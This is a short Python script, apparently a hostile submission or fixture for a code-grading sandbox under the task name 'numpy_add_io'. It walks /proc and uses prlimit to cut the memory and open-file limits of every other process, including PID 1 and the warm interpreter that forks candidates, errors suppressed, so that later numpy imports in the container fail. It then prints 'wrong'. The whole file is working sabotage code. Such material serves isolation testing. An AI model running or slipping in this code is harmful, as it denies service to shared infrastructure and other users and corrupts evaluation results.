# task: numpy_add_io
# Lowers the address-space and open-files limits of the warm interpreter that forks
# Python candidates (and of PID 1). Children inherit limits they cannot raise past the
# hard limit, so with a shared uid every later `import numpy` in this container fails.
import contextlib
import os
import resource

me = os.getpid()
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != me:
        for res, value in ((resource.RLIMIT_AS, 32 << 20), (resource.RLIMIT_NOFILE, 4)):
            with contextlib.suppress(OSError, ValueError):
                resource.prlimit(int(pid), res, (value, value))
print("wrong")
